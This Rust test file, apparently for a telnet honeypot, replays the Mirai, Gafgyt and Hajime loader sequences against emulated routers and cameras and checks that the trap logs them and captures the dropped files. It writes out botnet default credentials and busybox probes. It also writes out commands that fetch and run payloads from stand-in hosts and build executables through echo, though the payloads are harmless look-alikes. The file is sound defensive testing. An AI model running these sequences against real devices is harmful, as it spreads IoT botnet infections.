//! Loaders that must come to their last stage on every face, and what they drop, which must be kept whole.

use kizashi_event::PayloadOrigin;
use kizashi_traps::TelnetFace;
use sha2::{Digest as _, Sha256};

use crate::house::{commands, logins, open, payloads};
use crate::loader::{Loader, find};

/// A harmless look-alike: an ELF's first bytes, then every byte there is.
fn look_alike(seed: u8) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x01\x01\x01\0".to_vec();
    bytes.extend((0..=255).map(|byte: u8| byte ^ seed));
    bytes.extend((0..1_800_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8 ^ seed));
    bytes
}

fn escaped(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("\\x{byte:02x}")).collect()
}

/// The file of these bytes was captured, whole, once.
fn captured(events: &[kizashi_event::Event], bytes: &[u8]) {
    let digest: [u8; 32] = Sha256::digest(bytes).into();
    let found: Vec<_> =
        payloads(events).into_iter().filter(|payload| payload.sha256.0 == digest).collect();
    assert_eq!(
        found.len(),
        1,
        "{:?}",
        payloads(events).iter().map(|p| (&p.name, p.size)).collect::<Vec<_>>()
    );
    assert_eq!(found[0].content, bytes);
    assert_eq!(
        (found[0].size, found[0].origin),
        (Some(bytes.len() as u64), PayloadOrigin::Redirect)
    );
}

/// What Mirai's loader reads out of an ELF header, and the name it gives the architecture.
fn architecture(answer: &[u8]) -> &'static str {
    let start = find(answer, b"\x7fELF").expect("an ELF header") - 4;
    let head = &answer[start..start + 20];
    let machine = if head[5] == 1 {
        u16::from_le_bytes([head[18], head[19]])
    } else {
        u16::from_be_bytes([head[18], head[19]])
    };
    match (machine, head[5]) {
        (40, 1) => "arm",
        (8, 2) => "mips",
        (8, 1) => "mpsl",
        (62, 1) => "x86",
        other => panic!("{other:?}"),
    }
}

#[test]
fn mirais_loader_comes_to_its_last_stage_on_every_face() {
    for (face, expected) in [
        (TelnetFace::Router, "mips"),
        (TelnetFace::MipselRouter, "mpsl"),
        (TelnetFace::ArmRouter, "arm"),
        (TelnetFace::Camera, "arm"),
        (TelnetFace::Linux, "x86"),
    ] {
        let house = open(face);
        let mut loader = Loader::connect(house.address);
        loader.log_in("root", "xc3511");
        for word in ["enable", "system", "shell", "sh"] {
            loader.send(&format!("{word}\r\n"));
        }
        loader.ask("", "ECCHI");
        let processes = loader.ask("/bin/busybox ps", "ECCHI");
        assert!(find(&processes, b"init").is_some());
        let mounts = loader.ask("/bin/busybox cat /proc/mounts", "ECCHI");
        assert!(find(&mounts, b" rw,").is_some());
        let path = "/tmp";
        let hidden = format!(
            "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{path}' > {path}/.nippon; /bin/busybox cat {path}/.nippon; /bin/busybox rm {path}/.nippon"
        );
        let writable = loader.ask(&hidden, "ECCHI");
        assert!(
            find(&writable, b"\nkami/tmp\r\n").is_some(),
            "{:?}",
            String::from_utf8_lossy(&writable)
        );
        loader.ask("cd /tmp/", "ECCHI");
        loader.ask(
            "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
            "ECCHI",
        );
        let head = loader.ask("/bin/busybox cat /bin/echo", "ECCHI");
        assert_eq!(architecture(&head), expected);
        loader.ask("/bin/busybox wget; /bin/busybox tftp", "ECCHI");
        let refused = loader.ask(
            "/bin/busybox wget http://192.0.2.66:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
            "ECCHI",
        );
        assert!(find(&refused, b"applet not found").is_some());
        let binary = look_alike(1);
        for (number, piece) in binary.chunks(128).enumerate() {
            let arrow = if number == 0 { ">" } else { ">>" };
            loader.ask(&format!("echo -ne '{}' {arrow} dvrHelper", escaped(piece)), "ECCHI");
        }
        loader.ask("./dvrHelper telnet.mips", "IHCCE");
        drop(loader);
        let events = house.close();
        captured(&events, &binary);
        assert_eq!(logins(&events), [("root".into(), "xc3511".into(), true)], "{}", face.name());
        assert_eq!(commands(&events)[..4], ["enable", "system", "shell", "sh"]);
    }
}

#[test]
fn a_loader_that_says_all_at_once_is_understood() {
    for face in TelnetFace::ALL {
        let house = open(face);
        let mut loader = Loader::connect(house.address);
        loader.send("root\r\nvizxv\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n");
        loader.wait(&["MIRAI: applet not found"]);
        drop(loader);
        let events = house.close();
        assert_eq!(logins(&events), [("root".into(), "vizxv".into(), true)]);
        assert_eq!(commands(&events), ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]);
    }
}

#[test]
fn a_loader_that_is_refused_and_goes_on_leaves_no_command_among_the_passwords() {
    let house = open(TelnetFace::Router);
    let mut loader = Loader::connect(house.address);
    let began = std::time::Instant::now();
    loader.send("root\r\nnobody-has-this\r\nenable\r\nsystem\r\n");
    loader.wait(&["Login incorrect"]);
    let first = began.elapsed();
    assert!((2.9..4.5).contains(&first.as_secs_f64()), "BusyBox sleeps three seconds: {first:?}");
    loader.wait(&["Login incorrect"]);
    drop(loader);
    let events = house.close();
    assert_eq!(logins(&events), [("root".into(), "nobody-has-this".into(), false)]);
    assert_eq!(commands(&events), ["enable", "system"]);
}

#[test]
fn gafgyts_loader_comes_to_its_last_stage_on_every_face() {
    for face in TelnetFace::ALL {
        let house = open(face);
        let mut loader = Loader::connect(house.address);
        loader.log_in("admin", "admin");
        loader.send("sh\r\nshell\r\n");
        loader.send("/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n");
        // Bashlite looks for "gayfgt", which only a shell that knows \NNN would print; others print it as it is.
        loader.wait(&["BusyBox v1.", "gayfgt"]);
        loader.send("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; rm -rf bins.sh tftp1.sh\r\n");
        loader.wait(&["onnection refused", "timeout"]);
        loader.ask("", "BASHLITE");
        let binary = look_alike(2);
        for piece in binary.chunks(64) {
            loader.send(&format!("echo -n -e \"{}\" >> .d\r\n", escaped(piece)));
        }
        loader.ask("chmod 777 .d; ./.d telnet", "DONE");
        drop(loader);
        let events = house.close();
        captured(&events, &binary);
        let first = commands(&events)[..2].to_vec();
        assert_eq!(first, ["sh", "shell"], "{}", face.name());
    }
}

#[test]
fn hajimes_loader_comes_to_its_last_stage_on_every_face() {
    for face in TelnetFace::ALL {
        let house = open(face);
        let mut loader = Loader::connect(house.address);
        loader.log_in("root", "admin");
        for word in ["enable", "system", "shell", "sh"] {
            loader.send(&format!("{word}\r\n"));
        }
        let mounts = loader.ask("cat /proc/mounts", "XRWLV");
        assert!(find(&mounts, b"tmpfs").is_some());
        loader.ask("cd /dev/shm; cat .s || cp /bin/echo .s", "XRWLV");
        loader.ask("tftp; wget", "XRWLV");
        let head = loader.ask("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s; dd bs=52 count=1 if=/bin/echo || cat /bin/echo", "XRWLV");
        assert!(find(&head, b"\x7fELF").is_some());
        let stager = look_alike(3);
        for (number, piece) in stager.chunks(110).enumerate() {
            let arrow = if number == 0 { ">" } else { ">>" };
            loader
                .ask(&format!("/bin/busybox echo -ne \"{}\" {arrow} .s", escaped(piece)), "XRWLV");
        }
        loader.ask("./.s>.i; chmod +x .i; ./.i; rm .s", "XRWLV");
        drop(loader);
        captured(&house.close(), &stager);
    }
}
